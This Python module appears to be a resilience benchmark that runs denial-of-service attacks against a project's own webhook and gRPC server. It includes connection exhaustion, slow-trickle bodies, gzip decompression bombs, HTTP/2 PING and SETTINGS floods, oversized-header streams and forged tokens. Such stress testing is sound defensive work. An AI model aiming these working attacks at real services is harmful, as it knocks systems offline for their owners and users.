"""The attacks that bench/under_attack.py runs, each in a process of its own until it is ended.

They are strangers: they know where the server listens, and have no credential.
"""

import gzip
import http.client
import socket
import ssl
import struct
import time
import zlib
from collections import deque
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from dataclasses import dataclass
from itertools import cycle
from multiprocessing.synchronize import Event
from pathlib import Path

from h2.exceptions import ProtocolError
from hpack import Encoder
from hyperframe.frame import DataFrame, HeadersFrame

import running  # noqa: F401 (it lets the tests' modules be found)
from attacks.floods import FLOODS, Unfinished
from attacks.frames import call_headers, connected, headers_frame
from attacks.wire import connection_to, head, until_closed
from stand.certificates import trusting
from stand.h2_client import Closed, H2Client

MEGABYTE = 1024 * 1024
LIST = "/yandex.cloud.serverless.triggers.v1.TriggerService/List"
WATCH = "/grpc.health.v1.Health/Watch"
WEBHOOK = "/tocsin/v1/webhooks/objectStorage"
TRIGGERS = "/triggers/v1/triggers"
FORGED = "Bearer forged"
# Whether it is right is known when the body is there.
SIGNED = f"X-Hub-Signature-256: sha256={'0' * 64}"
FRAMES = 100_000
# The server ends the connection, in its time or in the middle of what is sent.
ENDED = (OSError, http.client.HTTPException, ProtocolError, Closed, AssertionError)


@dataclass(frozen=True)
class Doors:
    """Where the server listens, and the authority of its certificate."""

    addresses: dict[str, str]
    ca: Path

    def context(self) -> ssl.SSLContext:
        return trusting(self.ca)

    def tls(self) -> socket.socket:
        """Opens a connection of HTTP/2."""
        return connected(self.addresses["tls"], self.context())


Attack = Callable[[Doors], Iterator[None]]


def silent(names: tuple[str, ...], held: int) -> Attack:
    """Opens connections as fast as they are taken, and holds the newest of them."""

    def attack(doors: Doors) -> Iterator[None]:
        connections: deque[socket.socket] = deque()
        for name in cycle(names):
            with suppress(OSError):
                connections.append(abrupt(briefly_tried(doors.addresses[name])))
            if len(connections) > held:
                connections.popleft().close()
            yield

    return attack


def briefly_tried(address: str) -> socket.socket:
    """Opens a connection, or gives up where the server takes none at the moment."""
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)), timeout=0.02)


def abrupt(connection: socket.socket) -> socket.socket:
    """Has a connection leave no trace on this side when it is closed, so ports don't run out."""
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    return connection


def watching(doors: Doors) -> Iterator[None]:
    """Opens 100 streams on each of 114 connections, and then anew where one was ended."""
    sent = b""
    for stream in range(1, 200, 2):
        message = DataFrame(stream, bytes(5), flags=["END_STREAM"])
        sent += headers_frame(stream, call_headers(WATCH), ends=False) + message.serialize()

    def opened() -> socket.socket:
        connection = doors.tls()
        connection.sendall(sent)
        return connection

    yield from held(opened, 114)


def unfinished_gzip(doors: Doors) -> Iterator[None]:
    """Holds 40 bodies, of 9 MB when they are inflated, without their last byte."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    body = compressor.compress(b'{"a": "' + bytes(9 * MEGABYTE))
    body += compressor.flush(zlib.Z_SYNC_FLUSH)
    length = f"Content-Length: {len(body) + 1}"
    request = head("POST", WEBHOOK, ["Content-Encoding: gzip", SIGNED, length]) + body
    yield from held(lambda: sending(doors.addresses["http"], request), 40)


def large_json(*proof: str) -> Attack:
    """Sends whole bodies, 9 MB of JSON in 10 KB, on four connections at a time."""

    def attack(doors: Doors) -> Iterator[None]:
        body = gzip.compress(b'{"a":[' + b"0," * (9 * MEGABYTE // 2) + b"0]}")
        headers = ["Content-Encoding: gzip", f"Content-Length: {len(body)}", "Connection: close"]
        request = head("POST", WEBHOOK, [*headers, *proof]) + body
        while True:
            with suppress(OSError):
                connections = [sending(doors.addresses["http"], request) for _ in range(4)]
                yield
                for connection in connections:
                    with connection:
                        until_closed(connection)

    return attack


def unfinished_messages(door: str) -> Attack:
    """Sends 200 messages of 10 MB, on four connections, without their last bytes."""

    def attack(doors: Doors) -> Iterator[None]:
        def opened() -> Unfinished:
            context = doors.context() if door == "tls" else None
            return Unfinished(doors.addresses[door], 50, context)

        connections: list[Unfinished | None] = [None] * 4
        while True:
            for number, connection in enumerate(connections):
                try:
                    connections[number] = connection or opened()
                    connections[number].go_on()
                except ENDED:
                    connections[number] = None
                yield

    return attack


def endless_requests(kilobytes: int) -> Attack:
    """Begins 500 calls with large headers on a connection, and the same on the next.

    After the first call each of its headers is a byte on the wire.
    """
    large = [("authorization", FORGED), *[("x-large", "a" * 1000)] * kilobytes]
    encoder, streams = Encoder(), range(1, 1000, 2)
    sent = b"".join(
        HeadersFrame(
            stream, encoder.encode([*call_headers(LIST), *large]), flags=["END_HEADERS"]
        ).serialize()
        for stream in streams
    )

    def attack(doors: Doors) -> Iterator[None]:
        def opened() -> socket.socket:
            connection = doors.tls()
            connection.sendall(sent)
            return connection

        connections: deque[socket.socket] = deque()
        while True:
            with suppress(OSError):
                connections.append(opened())
            if len(connections) > 20:
                connections.popleft().close()
            yield

    return attack


def trickling(doors: Doors) -> Iterator[None]:
    """Holds 900 bodies of unknown length, each of which gets a byte a second."""
    request = head("POST", WEBHOOK, ["Transfer-Encoding: chunked", SIGNED])
    connections = [sending(doors.addresses["http"], request) for _ in range(900)]
    while True:
        yield
        began = time.monotonic()
        for number, connection in enumerate(connections):
            try:
                connection.sendall(b"1\r\na\r\n")
            except OSError:
                connection.close()
                with suppress(OSError):
                    connections[number] = sending(doors.addresses["http"], request)
        time.sleep(max(0.0, began + 1 - time.monotonic()))


def flood(kind: str) -> Attack:
    """Sends 100,000 frames without a call on each of 8 connections, and the same on the next."""

    def attack(doors: Doors) -> Iterator[None]:
        sent = b"".join(FLOODS[kind](number) for number in range(FRAMES))

        def once(_: int) -> None:
            with suppress(OSError), doors.tls() as connection:
                connection.settimeout(1)
                connection.sendall(sent)
                until_closed(connection)

        with ThreadPoolExecutor(8) as pool:
            while True:
                for _ in pool.map(once, range(8)):
                    yield

    return attack


def wrong_tokens(doors: Doors) -> Iterator[None]:
    """Calls with a forged token, over TLS and REST, one call after the other."""
    while True:
        with suppress(*ENDED), H2Client(doors.addresses["tls"], doors.context()) as client:
            rest = http.client.HTTPConnection(doors.addresses["http"], timeout=30)
            for _ in range(1000):
                client.call(LIST, headers=[("authorization", FORGED)])
                rest.request("GET", f"{TRIGGERS}?folderId=f", headers={"Authorization": FORGED})
                rest.getresponse().read()
                yield
            rest.close()


def computing(_: Doors) -> Iterator[None]:
    """Takes a core, and sends nothing."""
    while True:
        sum(range(100_000))
        yield


def sending(address: str, request: bytes) -> socket.socket:
    connection = abrupt(connection_to(address))
    connection.sendall(request)
    return connection


def held(opened: Callable[[], socket.socket], number: int) -> Iterator[None]:
    """Opens so many connections, and another one for each that the server ends."""
    connections: list[socket.socket] = []
    while True:
        for connection in list(connections):
            if has_ended(connection):
                connection.close()
                connections.remove(connection)
        while len(connections) < number:
            try:
                connections.append(opened())
            except OSError:
                break
        yield
        time.sleep(0.05)


def has_ended(connection: socket.socket) -> bool:
    """Reads what came, and says whether the server has closed or answered to the end."""
    connection.settimeout(0)
    try:
        while received := connection.recv(65536):
            if received.startswith(b"HTTP/1.1 "):
                return True
    except (BlockingIOError, ssl.SSLWantReadError):
        return False
    except OSError:
        return True
    return True


ATTACKS: dict[str, Attack] = {
    "silent connections, REST and TLS": silent(("http", "tls"), 3000),
    "silent connections, metrics and SMTP": silent(("metrics", "smtp"), 300),
    "11,400 streams of `Health/Watch`, TLS": watching,
    "40 unfinished bodies of gzip, REST": unfinished_gzip,
    "JSON of 9 MB in 10 KB, REST": large_json(),
    "the same, with a forged signature": large_json(SIGNED),
    "200 unfinished messages of 10 MB, TLS": unfinished_messages("tls"),
    "200 unfinished messages of 10 MB, gRPC": unfinished_messages("grpc"),
    "calls with headers of 12 KB that never end, TLS": endless_requests(12),
    "calls with headers of 60 KB, TLS": endless_requests(60),
    "900 bodies that trickle, REST": trickling,
    "flood of `PING`, TLS": flood("pings"),
    "flood of `SETTINGS`, TLS": flood("settings"),
    "forged tokens, REST and TLS": wrong_tokens,
    "none: a process that computes": computing,
}


def run(name: str, doors: Doors, began: Event) -> None:
    """Attacks until this process is ended; tells when it is under way."""
    for _ in ATTACKS[name](doors):
        began.set()
